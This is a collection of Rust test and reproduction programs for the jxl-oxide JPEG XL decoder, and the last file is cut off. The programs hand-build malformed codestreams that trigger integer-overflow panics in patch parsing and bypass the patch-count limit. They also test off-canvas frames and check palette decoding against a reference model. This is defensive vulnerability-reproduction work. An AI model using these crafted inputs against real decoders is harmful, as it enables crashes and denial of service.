// ---------------------------------------------------------------------------------------------

struct DirectOutcome {
    result: Result<Patches, jxl_frame::Error>,
    payload_bits: usize,
    consumed_payload_bits: usize,
}

fn run_direct(variant: Variant, padding: usize) -> Result<DirectOutcome, (String, String)> {
    let mut w = BitWriter::default();
    write_image_header(&mut w);
    write_frame_header_with_patches(&mut w);
    let header_bits = w.nbits;
    // Patches follow directly in the same bitstream (no alignment needed for the direct call).
    let payload = patches_payload(variant, padding);
    let mut bytes = w.bytes.clone();
    // splice payload bit-wise after the header bits
    let mut w2 = BitWriter {
        bytes: std::mem::take(&mut bytes),
        nbits: header_bits,
    };
    for &b in &payload {
        w2.put(b as u64, 8);
    }
    let buf = w2.bytes;

    let mut bitstream = Bitstream::new(&buf);
    let image_header = ImageHeader::parse(&mut bitstream, ()).expect("image header");
    assert_eq!((image_header.size.width, image_header.size.height), (64, 64));
    assert!(image_header.metadata.ec_info.is_empty());
    let frame_header = FrameHeader::parse(&mut bitstream, &image_header).expect("frame header");
    assert!(frame_header.flags.patches());
    assert_eq!((frame_header.width, frame_header.height), (64, 64));
    assert_eq!(bitstream.num_read_bits(), header_bits);

    run_capturing_panic(|| {
        let result = Patches::parse(&mut bitstream, (&image_header, &frame_header));
        DirectOutcome {
            result,
            payload_bits: payload.len() * 8,
            consumed_payload_bits: bitstream.num_read_bits() - header_bits,
        }
    })
}

fn check_direct(variant: Variant, expected_line: u32) {
    let outcome = run_direct(variant, 16);
    if cfg!(debug_assertions) {
        // overflow-checks follow debug-assertions in the default dev/test profile
        let (msg, loc) = match outcome {
            Err(p) => p,
            Ok(o) => panic!("expected a panic, got {:?}", o.result.map(|p| p.patches)),
        };
        println!("[{variant:?}] Patches::parse PANICKED: '{msg}' at {loc}");
        assert_eq!(msg, "attempt to add with overflow");
        assert!(
            loc.contains("jxl-frame/src/data/patch.rs")
                && loc.contains(&format!(":{expected_line}:")),
            "unexpected location {loc}"
        );
    } else {
        let o = outcome.expect("no panic without overflow checks");
        println!(
            "[{variant:?}] (no overflow checks) Patches::parse returned {:?}; consumed {} of {} payload bits",
            o.result, o.consumed_payload_bits, o.payload_bits
        );
    }
}

#[test]
fn direct_width_plus_one_overflows() {
    check_direct(Variant::Width, 127);
}

#[test]
fn direct_height_plus_one_overflows() {
    check_direct(Variant::Height, 128);
}

#[test]
fn direct_count_plus_one_overflows() {
    check_direct(Variant::Count, 129);
}

#[test]
fn direct_total_patches_overflows() {
    check_direct(Variant::TotalPatches, 132);
}

/// Release-mode semantics (wrapping).  Only meaningful without overflow checks.
#[test]
fn release_wrapping_behaviour() {
    if cfg!(debug_assertions) {
        println!("skipped: overflow checks are on in this profile");
        return;
    }

    // width / height wrap to 0 and are accepted; count wraps to 0 -> zero targets, accepted.
    let o = run_direct(Variant::Width, 16).unwrap();
    let p = o.result.expect("accepted");
    assert_eq!((p.patches[0].width, p.patches[0].height), (0, 1));
    assert_eq!(p.patches[0].patch_targets.len(), 1);

    let o = run_direct(Variant::Height, 16).unwrap();
    let p = o.result.expect("accepted");
    assert_eq!((p.patches[0].width, p.patches[0].height), (1, 0));

    let o = run_direct(Variant::Count, 16).unwrap();
    let p = o.result.expect("accepted");
    assert_eq!(p.patches[0].patch_targets.len(), 0);

    // total_patches wraps 1 + 0xFFFF_FFFF -> 0, so the `> max_num_patches` (= 1024 here) limit
    // is bypassed and the parser goes on to read 0xFFFF_FFFF targets; it only stops because the
    // 2-bit-per-token data runs out.
    let padding = 4096;
    let o = run_direct(Variant::TotalPatches, padding).unwrap();
    let err = o.result.expect_err("runs into EOF");
    println!(
        "TotalPatches, release: error = {err} ({err:?}); consumed {} of {} payload bits",
        o.consumed_payload_bits, o.payload_bits
    );
    assert!(!format!("{err:?}").contains("too many patches"));
    assert!(o.consumed_payload_bits + 64 >= o.payload_bits);
}

// ---------------------------------------------------------------------------------------------
// End-to-end: a complete 56-byte-ish bare codestream through jxl_oxide::JxlImage
// ---------------------------------------------------------------------------------------------

fn full_codestream(variant: Variant) -> Vec<u8> {
    let payload = patches_payload(variant, 16);
    let mut w = BitWriter::default();
    write_image_header(&mut w);
    w.pad_to_byte(); // Frame::parse starts with zero_pad_to_byte
    write_frame_header_with_patches(&mut w);
    // TOC: one entry (1 group, 1 pass)
    w.put(0, 1); // permutated_toc = false
    w.pad_to_byte();
    assert!(payload.len() < 1024);
    w.put(0, 2); // U32 selector 0 -> u(10)
    w.put(payload.len() as u64, 10);
    w.pad_to_byte();
    // Section "All": LfGlobal starts with Patches when flags.patches()
    w.append_bytes(&payload);
    w.bytes
}

fn decode_like_fuzz_harness(data: &[u8]) {
    // Same calls as crates/jxl-oxide-fuzz/src/lib.rs::fuzz_decode
    use jxl_oxide::{AllocTracker, JxlImage, JxlThreadPool};
    let image = JxlImage::builder()
        .pool(JxlThreadPool::none())
        .alloc_tracker(AllocTracker::with_limit(128 * 1024 * 1024))
        .read(std::io::Cursor::new(data));
    match image {
        Ok(image) => {
            println!(
                "JxlImage::read ok: {}x{}, {} keyframe(s)",
                image.width(),
                image.height(),
                image.num_loaded_keyframes()
            );
            for keyframe_idx in 0..image.num_loaded_keyframes() {
                let r = image.render_frame(keyframe_idx);
                println!("render_frame({keyframe_idx}) -> {:?}", r.map(|_| "Ok(render)"));
            }
        }
        Err(e) => println!("JxlImage::read -> Err({e})"),
    }
}

#[test]
fn end_to_end_jxl_image_panics() {
    let data = full_codestream(Variant::Width);
    println!("codestream ({} bytes): {:02x?}", data.len(), data);
    let outcome = run_capturing_panic(|| decode_like_fuzz_harness(&data));
    if cfg!(debug_assertions) {
        let (msg, loc) = outcome.expect_err("expected a panic through the public API");
        println!("JxlImage decode PANICKED: '{msg}' at {loc}");
        assert_eq!(msg, "attempt to add with overflow");
        assert!(loc.contains("jxl-frame/src/data/patch.rs") && loc.contains(":127:"));
    } else {
        outcome.expect("no panic without overflow checks");
    }
}

//! F2-b: a VarDCT Regular frame that lies entirely outside of the canvas (have_crop = 1,
//! x0 >= image width) with Gabor and EPF disabled, upsampling = 1 and do_ycbcr = 0.
//!
//! Image: 16x16 RGB, xyb_encoded = 0. Single frame, 16x16 at (x0, 0), blend mode Replace/Add.
//! Control: the same frame at x0 = 8 (half of it is visible).

mod jxlw;
use jxlw::*;

fn main() {
    install_panic_hook();
    let img = ImageSpec {
        width: 16,
        height: 16,
        grey: false,
    };
    let frame = |enc, x0, blend| FrameSpec {
        crop: Some((x0, 0, 16, 16)),
        blend,
        source: 0,
        value: 100,
        ..FrameSpec::new(Ty::Regular, enc)
    };

    let mut controls_ok = true;
    let mut panicked = false;
    for (enc, name) in [(Enc::VarDct, "VarDCT"), (Enc::Modular, "Modular")] {
        for (blend, blend_name) in [(Blend::Replace, "Replace"), (Blend::Add, "Add")] {
            let control = write_codestream(&img, &[frame(enc, 8, blend)]);
            let hostile = write_codestream(&img, &[frame(enc, 16, blend)]);
            let hostile_far = write_codestream(&img, &[frame(enc, 300, blend)]);
            let hostile_neg = write_codestream(&img, &[frame(enc, -16, blend)]);
            let (_, ok) = report(&format!("control ({name}, x0=8, {blend_name})"), &control);
            controls_ok &= ok;
            for (bytes, x0) in [(&hostile, 16), (&hostile_far, 300), (&hostile_neg, -16)] {
                let (p, _) = report(&format!("hostile ({name}, x0={x0}, {blend_name})"), bytes);
                panicked |= p;
            }
        }
    }
    // An invisible frame blended over a visible one: the result must be the visible frame alone.
    let base = FrameSpec {
        value: 100,
        ..FrameSpec::new(Ty::Regular, Enc::VarDct)
    };
    let base_saved = FrameSpec {
        is_last: false,
        save_as_reference: 0,
        ..base.clone()
    };
    let single = write_codestream(&img, &[base]);
    let two = write_codestream(&img, &[base_saved, frame(Enc::VarDct, 16, Blend::Add)]);
    let (_, ok) = report("control (VarDCT, single full frame)", &single);
    controls_ok &= ok;
    let (p, _) = report("hostile (VarDCT, full frame + invisible frame, Add)", &two);
    panicked |= p;

    // Other decoding options, to make sure that invisible frames are handled in general.
    let variants: [(&str, fn(&mut FrameSpec)); 5] = [
        ("gab", |f| f.gab = true),
        ("epf", |f| f.epf_iters = 2),
        ("gab+epf", |f| {
            f.gab = true;
            f.epf_iters = 1;
        }),
        ("ycbcr", |f| f.do_ycbcr = true),
        ("upsampling 2x", |f| f.upsampling_log2 = 1),
    ];
    for (enc, name) in [(Enc::VarDct, "VarDCT"), (Enc::Modular, "Modular")] {
        for (variant, apply) in &variants {
            for x0 in [8, 16, -16] {
                let mut f = frame(enc, x0, Blend::Add);
                apply(&mut f);
                let bytes = write_codestream(&img, &[f]);
                let is_control = x0 == 8;
                let kind = if is_control { "control" } else { "hostile" };
                let (p, ok) = report(&format!("{kind} ({name}, {variant}, x0={x0}, Add)"), &bytes);
                if is_control {
                    controls_ok &= ok;
                } else {
                    panicked |= p;
                }
            }
        }
    }

    if !controls_ok {
        println!("UNEXPECTED: a control input did not decode");
        std::process::exit(2);
    }
    if panicked {
        println!("FAIL: hostile input panicked");
        std::process::exit(1);
    }
    println!("OK: hostile input did not panic");
}

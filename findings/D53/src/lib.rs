//! Minimal hand-rolled writer for JPEG XL Modular sub-bitstreams, playing the role of an
//! independent reference encoder, plus a straightforward model of the inverse Palette transform
//! written directly from the specification (ISO/IEC 18181-1, H.6.4).

/// LSB-first bit writer, as used by the JPEG XL codestream.
#[derive(Default)]
pub struct BitWriter {
    bytes: Vec<u8>,
    nbits: usize,
}

impl BitWriter {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn write(&mut self, value: u64, n: usize) {
        for i in 0..n {
            let bit = ((value >> i) & 1) as u8;
            if self.nbits % 8 == 0 {
                self.bytes.push(0);
            }
            let last = self.bytes.last_mut().unwrap();
            *last |= bit << (self.nbits % 8);
            self.nbits += 1;
        }
    }

    pub fn bool(&mut self, b: bool) {
        self.write(b as u64, 1);
    }

    /// U32 with the given selector and `n` extra bits.
    pub fn u32_sel(&mut self, selector: u64, extra: u64, n: usize) {
        self.write(selector, 2);
        self.write(extra, n);
    }

    pub fn align(&mut self) {
        while self.nbits % 8 != 0 {
            self.write(0, 1);
        }
    }

    pub fn bit_len(&self) -> usize {
        self.nbits
    }

    pub fn into_bytes(mut self) -> Vec<u8> {
        self.align();
        // slack so that the prefix code reader can always peek
        self.bytes.extend_from_slice(&[0; 8]);
        self.bytes
    }

    pub fn finish_exact(mut self) -> Vec<u8> {
        self.align();
        self.bytes
    }
}

pub fn pack_signed(v: i32) -> u32 {
    if v >= 0 {
        (v as u32) << 1
    } else {
        (((-(v as i64)) as u32) << 1) - 1
    }
}

/// Entropy coder configuration used for the samples: prefix code, one cluster, 16 symbols each
/// with a 4-bit code, hybrid integer config (split_exponent, msb, lsb) = (0, 0, 0).
fn write_sample_code_header(w: &mut BitWriter) {
    w.bool(false); // lz77 disabled
    // num_dist == 1: no cluster map
    w.bool(true); // use_prefix_code
    w.write(0, 4); // split_exponent = 0 (no msb/lsb bits follow)
    // alphabet size: 1 + (1 << 3) + 7 = 16
    w.bool(true);
    w.write(3, 4);
    w.write(7, 3);
    // complex prefix code, hskip = 3: code length code lengths for [4, 0, 5, 17, 6, 16, 7..15]
    w.write(3, 2);
    w.write(1, 2); // symbol 4 -> length 4
    for _ in 0..14 {
        w.write(0, 2); // the rest -> length 0
    }
    // only one code length symbol (4) is used: all 16 code lengths are 4, zero bits each.
}

/// Writes a hybrid integer with the code of `write_sample_code_header`.
fn write_sample_token(w: &mut BitWriter, value: u32) {
    let (token, nbits, bits) = if value == 0 {
        (0u32, 0usize, 0u32)
    } else {
        let n = 31 - value.leading_zeros();
        (1 + n, n as usize, value - (1 << n))
    };
    assert!(token < 16);
    // canonical 4-bit code, first-read bit is the most significant one
    for i in (0..4).rev() {
        w.write(((token >> i) & 1) as u64, 1);
    }
    w.write(bits as u64, nbits);
}

/// MA tree consisting of one leaf: Zero predictor, offset 0, multiplier 1.
fn write_single_leaf_tree(w: &mut BitWriter) {
    w.bool(false); // lz77 disabled
    w.bool(true); // simple cluster map
    w.write(0, 2); // nbits = 0: all six contexts in cluster 0
    w.bool(true); // use_prefix_code
    w.write(0, 4); // split_exponent = 0
    w.bool(false); // alphabet size 1: every token is 0, zero bits each
    // tree tokens: property = 0 (leaf), predictor = 0, offset = 0, mul_log = 0, mul_bits = 0
}

#[derive(Clone, Debug)]
pub struct PaletteImage {
    pub width: usize,
    pub height: usize,
    pub bit_depth: u32,
    /// `palette[c][i]`: component `c` of colour `i`
    pub palette: Vec<Vec<i32>>,
    pub nb_deltas: u32,
    /// 1 = West, 5 = Gradient
    pub d_pred: u32,
    /// index channel, row-major
    pub indices: Vec<i32>,
}

impl PaletteImage {
    pub fn num_c(&self) -> usize {
        self.palette.len()
    }

    pub fn nb_colours(&self) -> usize {
        self.palette[0].len()
    }

    /// Writes the Modular sub-bitstream (header, tree, samples) of the image.
    pub fn write_modular(&self, w: &mut BitWriter) {
        let num_c = self.num_c();
        let nb_colours = self.nb_colours();
        assert!(num_c == 1 || num_c == 3);
        assert!(nb_colours < 256);
        assert!(self.nb_deltas <= 256);

        // ModularHeader
        w.bool(false); // use_global_tree
        w.bool(true); // default_wp
        w.write(1, 2); // nb_transforms = 1
        w.write(1, 2); // Palette
        w.u32_sel(0, 0, 3); // begin_c = 0
        w.write(if num_c == 1 { 0 } else { 1 }, 2); // num_c = 1 or 3
        w.u32_sel(0, nb_colours as u64, 8); // nb_colours
        if self.nb_deltas == 0 {
            w.write(0, 2); // nb_deltas = 0
        } else {
            w.u32_sel(1, self.nb_deltas as u64 - 1, 8); // nb_deltas = 1 + u(8)
        }
        w.write(self.d_pred as u64, 4); // d_pred

        write_single_leaf_tree(w);
        write_sample_code_header(w);

        // channel 0: palette (nb_colours x num_c), channel 1: indices
        for row in &self.palette {
            for &v in row {
                write_sample_token(w, pack_signed(v));
            }
        }
        for &v in &self.indices {
            write_sample_token(w, pack_signed(v));
        }
    }

    /// Reference model of the inverse palette transform.
    pub fn reference(&self) -> Vec<Vec<i32>> {
        #[rustfmt::skip]
        const DELTA_PALETTE: [[i32; 3]; 72] = [
            [0, 0, 0], [4, 4, 4], [11, 0, 0], [0, 0, -13], [0, -12, 0], [-10, -10, -10],
            [-18, -18, -18], [-27, -27, -27], [-18, -18, 0], [0, 0, -32], [-32, 0, 0], [-37, -37, -37],
            [0, -32, -32], [24, 24, 45], [50, 50, 50], [-45, -24, -24], [-24, -45, -45], [0, -24, -24],
            [-34, -34, 0], [-24, 0, -24], [-45, -45, -24], [64, 64, 64], [-32, 0, -32], [0, -32, 0],
            [-32, 0, 32], [-24, -45, -24], [45, 24, 45], [24, -24, -45], [-45, -24, 24], [80, 80, 80],
            [64, 0, 0], [0, 0, -64], [0, -64, -64], [-24, -24, 45], [96, 96, 96], [64, 64, 0],
            [45, -24, -24], [34, -34, 0], [112, 112, 112], [24, -45, -45], [45, 45, -24], [0, -32, 32],
            [24, -24, 45], [0, 96, 96], [45, -24, 24], [24, -45, -24], [-24, -45, 24], [0, -64, 0],
            [96, 0, 0], [128, 128, 128], [64, 0, 64], [144, 144, 144], [96, 96, 0], [-36, -36, 36],
            [45, -24, -45], [45, -45, -24], [0, 0, -96], [0, 128, 128], [0, 96, 0], [45, 24, -45],
            [-128, 0, 0], [24, -45, 24], [-45, 24, -45], [64, 0, -64], [64, -64, -64], [96, 0, 96],
            [45, -45, 24], [24, 45, -45], [64, 64, -64], [128, 128, 0], [0, 0, -128], [-24, 45, -45],
        ];

        assert!(self.d_pred == 1 || self.d_pred == 5, "model implements West and Gradient");
        let (w, h) = (self.width, self.height);
        let nb_colours = self.nb_colours() as i32;
        let nb_deltas = self.nb_deltas as i32;
        let bit_depth = self.bit_depth;
        let mut out = vec![vec![0i32; w * h]; self.num_c()];
        for (c, plane) in out.iter_mut().enumerate() {
            for y in 0..h {
                for x in 0..w {
                    let index = self.indices[y * w + x];
                    let is_delta = index < nb_deltas;
                    let mut value = if (0..nb_colours).contains(&index) {
                        self.palette[c][index as usize]
                    } else if index >= nb_colours {
                        let index = index - nb_colours;
                        if index < 64 {
                            ((index >> (2 * c)) % 4) * ((1 << bit_depth) - 1) / 4
                                + (1 << bit_depth.saturating_sub(3))
                        } else {
                            let mut index = index - 64;
                            for _ in 0..c {
                                index /= 5;
                            }
                            (index % 5) * ((1 << bit_depth) - 1) / 4
                        }
                    } else if c < 3 {
                        let index = (-(index + 1)) % 143;
                        let mut v = DELTA_PALETTE[((index + 1) >> 1) as usize][c];
                        if index & 1 == 0 {
                            v = -v;
                        }
                        if bit_depth > 8 {
                            v <<= bit_depth.min(24) - 8;
                        }
                        v
                    } else {
                        0
                    };
                    if is_delta {
                        // neighbours with the usual edge rules (H.3)
                        let west = if x > 0 {
                            plane[y * w + x - 1]
                        } else if y > 0 {
                            plane[(y - 1) * w + x]
                        } else {
                            0
                        };
                        let north = if y > 0 { plane[(y - 1) * w + x] } else { west };
                        let northwest = if x > 0 && y > 0 {
                            plane[(y - 1) * w + x - 1]
                        } else {
                            west
                        };
                        value += if self.d_pred == 1 {
                            west
                        } else {
                            (north + west - northwest).clamp(north.min(west), north.max(west))
                        };
                    }
                    plane[y * w + x] = value;
                }
            }
        }
        out
    }
}

impl PaletteImage {
    /// Writes a complete bare JPEG XL codestream: 8-bit sRGB, not XYB encoded, one Modular frame
    /// with a single TOC entry, no restoration filters.
    pub fn write_codestream(&self) -> Vec<u8> {
        assert_eq!(self.num_c(), 3);
        assert_eq!(self.bit_depth, 8);
        assert!(self.width <= 256 && self.height <= 256);

        // the only section: LfGlobal (+ nothing else, every channel fits in GlobalModular)
        let mut s = BitWriter::new();
        s.bool(true); // LfChannelDequantization.all_default
        s.bool(false); // no global MA tree
        self.write_modular(&mut s);
        let section = s.finish_exact();
        assert!(section.len() < 1024);

        let mut w = BitWriter::new();
        w.write(0x0aff, 16); // signature

        // SizeHeader
        w.bool(false); // div8
        w.u32_sel(0, self.height as u64 - 1, 9);
        w.write(0, 3); // ratio
        w.u32_sel(0, self.width as u64 - 1, 9);

        // ImageMetadata
        w.bool(false); // all_default
        w.bool(false); // extra_fields
        w.bool(false); // float_sample
        w.write(0, 2); // bits_per_sample = 8
        w.bool(true); // modular_16bit_buffers
        w.write(0, 2); // num_extra = 0
        w.bool(false); // xyb_encoded
        w.bool(true); // colour_encoding.all_default (sRGB)
        w.write(0, 2); // extensions = 0
        w.bool(true); // default_m
        w.align();

        // FrameHeader
        w.bool(false); // all_default
        w.write(0, 2); // frame_type = regular
        w.write(1, 1); // encoding = modular
        w.write(0, 2); // flags = 0
        w.bool(false); // do_ycbcr
        w.write(0, 2); // upsampling = 1
        w.write(1, 2); // group_size_shift = 1
        w.write(0, 2); // num_passes = 1
        w.bool(false); // have_crop
        w.write(0, 2); // blend mode = replace
        w.bool(true); // is_last
        w.write(0, 2); // name length = 0
        w.bool(false); // restoration_filter.all_default
        w.bool(false); // gab disabled
        w.write(0, 2); // epf_iters = 0
        w.write(0, 2); // restoration_filter.extensions = 0
        w.write(0, 2); // extensions = 0

        // TOC
        w.bool(false); // not permuted
        w.align();
        w.u32_sel(0, section.len() as u64, 10);
        w.align();

        let mut bytes = w.finish_exact();
        bytes.extend_from_slice(&section);
        bytes
    }
}

use jxl_bitstream::Bitstream;
use jxl_modular::{ChannelShift, Modular, ModularParams, Sample};
use jxl_oxide::JxlImage;
use jxl_oxide_common::Bundle;
use repro_delta_fastpath::{BitWriter, PaletteImage};

fn decode_modular<S: Sample>(image: &PaletteImage) -> Vec<Vec<i32>> {
    let mut w = BitWriter::new();
    image.write_modular(&mut w);
    let bytes = w.into_bytes();
    let mut bitstream = Bitstream::new(&bytes);
    let params = ModularParams::new(
        image.width as u32,
        image.height as u32,
        256,
        image.bit_depth,
        vec![ChannelShift::from_shift(0); image.num_c()],
        None,
        None,
    );
    let mut modular = Modular::<S>::parse(&mut bitstream, params).expect("modular header");
    let dest = modular.image_mut().unwrap();
    let mut gmodular = dest.prepare_gmodular().unwrap();
    gmodular.decode(&mut bitstream, 0, false).expect("decode");
    drop(gmodular);
    let pool = jxl_threadpool::JxlThreadPool::none();
    dest.prepare_subimage().unwrap().finish(&pool);
    dest.image_channels()
        .iter()
        .map(|g| {
            let mut v = Vec::new();
            for y in 0..g.height() {
                for x in 0..g.width() {
                    v.push(g.get(x, y).to_i32());
                }
            }
            v
        })
        .collect()
}

fn decode_codestream(image: &PaletteImage, wide: bool) -> Vec<Vec<i32>> {
    let bytes = image.write_codestream();
    let jxl = JxlImage::builder()
        .force_wide_buffers(wide)
        .read(&bytes[..])
        .expect("codestream");
    let render = jxl.render_frame(0).expect("render");
    render
        .image_planar()
        .iter()
        .map(|fb| fb.buf().iter().map(|&v| (v * 255.0).round() as i32).collect())
        .collect()
}

fn image(d_pred: u32, indices: &[i32]) -> PaletteImage {
    let image = PaletteImage {
        width: 6,
        height: 4,
        bit_depth: 8,
        // colours 0 and 1 are delta entries (nb_deltas = 2), 2 and 3 are plain colours
        palette: vec![
            vec![3, -2, 40, 120],
            vec![1, -4, 90, 100],
            vec![-2, 5, 128, 77],
        ],
        nb_deltas: 2,
        d_pred,
        indices: indices.to_vec(),
    };
    for plane in image.reference() {
        assert!(plane.iter().all(|v| (0..=255).contains(v)), "model out of 8-bit range");
    }
    image
}

fn main() {
    // Case A: every index is inside 0..nb_colours (= 0..4); 0 and 1 are delta entries.
    #[rustfmt::skip]
    let a = [
        2, 0, 0, 1, 3, 0,
        3, 1, 0, 2, 0, 0,
        0, 0, 3, 1, 1, 2,
        2, 0, 1, 3, 0, 3,
    ];
    // Case B (control): same, but the last pixel is an implicit colour (index >= nb_colours).
    let mut b = a;
    b[23] = 4 + 21;

    let mut bad = false;
    for (d_pred, pname) in [(1u32, "West"), (5, "Gradient")] {
        for (cname, idx) in [("A all-in-range (fast path)", &a), ("B one implicit colour (slow path)", &b)] {
            let img = image(d_pred, idx);
            let model = img.reference();
            let runs: [(&str, Vec<Vec<i32>>); 4] = [
                ("jxl_modular i32      ", decode_modular::<i32>(&img)),
                ("jxl_modular i16      ", decode_modular::<i16>(&img)),
                ("JxlImage narrow      ", decode_codestream(&img, false)),
                ("JxlImage forced-wide ", decode_codestream(&img, true)),
            ];
            println!("d_pred={pname}, case {cname}");
            println!("  model  ch0[0..12]       = {:?}", &model[0][..12]);
            for (name, got) in &runs {
                let ok = *got == model;
                // delta pixels are everything except index 23, compare those separately
                let delta_ok = (0..3).all(|c| got[c][..23] == model[c][..23]);
                println!(
                    "  {name} ch0[0..12] = {:?}  {}",
                    &got[0][..12],
                    if ok { "OK" } else if delta_ok { "MISMATCH (last pixel only)" } else { "MISMATCH" }
                );
                bad |= !ok;
            }
        }
    }
    // the first 23 pixels of A and B are the same image: model must agree with itself
    for d_pred in [1, 5] {
        let (ma, mb) = (image(d_pred, &a).reference(), image(d_pred, &b).reference());
        assert!((0..3).all(|c| ma[c][..23] == mb[c][..23]));
    }
    if bad {
        println!("RESULT: decoder disagrees with the reference model");
        std::process::exit(1);
    }
    println!("RESULT: all cases match the reference model");
}

//! Builds a tiny baseline JPEG by hand, transcodes it (by hand) into a JPEG XL container with a
//! `jbrd` box, and checks that `JxlImage::reconstruct_jpeg` reproduces the JPEG byte for byte.
//!
//! The JPEG is a valid baseline (SOF0) 4:4:4 YCbCr file with three non-interleaved scans. The DRI
//! marker is placed *after* the first scan, so the first scan has no restart markers while the
//! second and third scans do.

use jxl_oxide::{JpegReconstructionStatus, JxlImage};

const WIDTH: usize = 32;
const HEIGHT: usize = 16;
const BW: usize = WIDTH / 8;
const BH: usize = HEIGHT / 8;
const NUM_BLOCKS: usize = BW * BH;
const RESTART_INTERVAL: u16 = 3;

// ---------------------------------------------------------------------------------------------
// Common helpers
// ---------------------------------------------------------------------------------------------

/// JPEG zigzag order, as (row, col).
fn zigzag() -> [(usize, usize); 64] {
    let mut out = [(0usize, 0usize); 64];
    let mut idx = 0;
    for s in 0..15 {
        let range: Vec<usize> = (0..=s).filter(|&i| i < 8 && s - i < 8).collect();
        if s % 2 == 0 {
            // going up-right: row decreasing
            for &col in &range {
                let row = s - col;
                out[idx] = (row, col);
                idx += 1;
            }
        } else {
            for &row in &range {
                let col = s - row;
                out[idx] = (row, col);
                idx += 1;
            }
        }
    }
    assert_eq!(idx, 64);
    out
}

struct Lcg(u64);
impl Lcg {
    fn next(&mut self) -> u32 {
        self.0 = self
            .0
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        (self.0 >> 33) as u32
    }
    fn range(&mut self, lo: i32, hi: i32) -> i32 {
        lo + (self.next() % (hi - lo + 1) as u32) as i32
    }
}

/// Quantized coefficients: `coeffs[component][block][zigzag index]`.
type Coeffs = Vec<Vec<[i16; 64]>>;

fn make_coeffs() -> Coeffs {
    let mut rng = Lcg(0x1234_5678_9abc_def0);
    let mut out = Vec::new();
    for c in 0..3 {
        let mut blocks = Vec::new();
        for b in 0..NUM_BLOCKS {
            let mut block = [0i16; 64];
            block[0] = rng.range(-300, 300) as i16;
            let kind = (c * NUM_BLOCKS + b) % 5;
            match kind {
                // empty AC
                0 => {}
                // a few low-frequency coefficients
                1 => {
                    for k in 1..10 {
                        if rng.next() % 2 == 0 {
                            block[k] = rng.range(-40, 40) as i16;
                        }
                    }
                }
                // long zero run (needs ZRL) and a coefficient in the last position (no EOB)
                2 => {
                    block[2] = rng.range(1, 9) as i16;
                    block[40] = -(rng.range(1, 200) as i16);
                    block[63] = rng.range(1, 3) as i16;
                }
                // dense
                3 => {
                    for k in 1..64 {
                        if rng.next() % 3 == 0 {
                            block[k] = rng.range(-15, 15) as i16;
                        }
                    }
                }
                // sparse
                _ => {
                    for k in 1..64 {
                        if rng.next() % 11 == 0 {
                            block[k] = rng.range(-511, 511) as i16;
                        }
                    }
                }
            }
            blocks.push(block);
        }
        out.push(blocks);
    }
    out
}

/// Quantization tables in zigzag order. Table 0 for Y, table 1 for Cb and Cr.
fn make_quant_tables() -> [[u8; 64]; 2] {
    let mut t0 = [0u8; 64];
    let mut t1 = [0u8; 64];
    for k in 0..64 {
        t0[k] = (3 + k * 2) as u8;
        t1[k] = (5 + k * 3) as u8;
    }
    [t0, t1]
}

/// DC table: 12 symbols, all 4 bits. AC table: 162 symbols, all 8 bits.
fn dc_symbols() -> Vec<u8> {
    (0u8..12).collect()
}

fn ac_symbols() -> Vec<u8> {
    let mut v = vec![0x00u8, 0xf0];
    for run in 0..16u8 {
        for size in 1..=10u8 {
            v.push((run << 4) | size);
        }
    }
    v.sort_unstable();
    v
}

// ---------------------------------------------------------------------------------------------
// Reference JPEG writer
// ---------------------------------------------------------------------------------------------

struct JpegBits {
    out: Vec<u8>,
    acc: u32,
    nbits: u32,
}

impl JpegBits {
    fn new() -> Self {
        Self {
            out: Vec::new(),
            acc: 0,
            nbits: 0,
        }
    }

    fn put(&mut self, value: u32, len: u32) {
        for i in (0..len).rev() {
            let bit = (value >> i) & 1;
            self.acc = (self.acc << 1) | bit;
            self.nbits += 1;
            if self.nbits == 8 {
                let b = self.acc as u8;
                self.out.push(b);
                if b == 0xff {
                    self.out.push(0);
                }
                self.acc = 0;
                self.nbits = 0;
            }
        }
    }

    fn pad_ones(&mut self) {
        while self.nbits != 0 {
            self.put(1, 1);
        }
    }
}

fn magnitude(v: i32) -> (u32, u32) {
    // (size, raw bits)
    let a = v.unsigned_abs();
    let size = 32 - a.leading_zeros();
    let bits = if v < 0 {
        ((v - 1) as u32) & ((1u32 << size) - 1)
    } else {
        v as u32
    };
    (size, bits)
}

fn encode_block(
    bits: &mut JpegBits,
    block: &[i16; 64],
    pred: &mut i16,
    dc_syms: &[u8],
    ac_syms: &[u8],
) {
    let diff = block[0] as i32 - *pred as i32;
    *pred = block[0];
    let (size, raw) = magnitude(diff);
    let code = dc_syms.iter().position(|&s| s as u32 == size).unwrap() as u32;
    bits.put(code, 4);
    bits.put(raw, size);

    let ac_code = |sym: u8| ac_syms.iter().position(|&s| s == sym).unwrap() as u32;
    let mut run = 0u32;
    for k in 1..64 {
        let v = block[k] as i32;
        if v == 0 {
            run += 1;
            continue;
        }
        while run >= 16 {
            bits.put(ac_code(0xf0), 8);
            run -= 16;
        }
        let (size, raw) = magnitude(v);
        bits.put(ac_code(((run as u8) << 4) | size as u8), 8);
        bits.put(raw, size);
        run = 0;
    }
    if run > 0 {
        bits.put(ac_code(0x00), 8);
    }
}

fn write_scan(
    out: &mut Vec<u8>,
    comp: usize,
    coeffs: &Coeffs,
    restart_interval: Option<u16>,
    dc_syms: &[u8],
    ac_syms: &[u8],
) {
    // SOS header
    out.extend_from_slice(&[0xff, 0xda, 0x00, 0x08, 0x01, comp as u8 + 1, 0x00, 0, 63, 0]);

    let mut bits = JpegBits::new();
    let mut pred = 0i16;
    let mut rst = 0u8;
    for (mcu, block) in coeffs[comp].iter().enumerate() {
        if let Some(ri) = restart_interval
            && mcu != 0
            && mcu % ri as usize == 0
        {
            bits.pad_ones();
            out.append(&mut bits.out);
            out.extend_from_slice(&[0xff, 0xd0 + rst]);
            rst = (rst + 1) % 8;
            pred = 0;
        }
        encode_block(&mut bits, block, &mut pred, dc_syms, ac_syms);
    }
    bits.pad_ones();
    out.append(&mut bits.out);
}

fn write_jpeg(coeffs: &Coeffs) -> Vec<u8> {
    let qt = make_quant_tables();
    let dc_syms = dc_symbols();
    let ac_syms = ac_symbols();

    let mut out = vec![0xff, 0xd8];

    // DQT: two 8-bit tables in a single segment
    out.extend_from_slice(&[0xff, 0xdb]);
    out.extend_from_slice(&((2 + 65 * 2) as u16).to_be_bytes());
    out.push(0x00);
    out.extend_from_slice(&qt[0]);
    out.push(0x01);
    out.extend_from_slice(&qt[1]);

    // SOF0
    out.extend_from_slice(&[0xff, 0xc0, 0x00, 17, 8]);
    out.extend_from_slice(&(HEIGHT as u16).to_be_bytes());
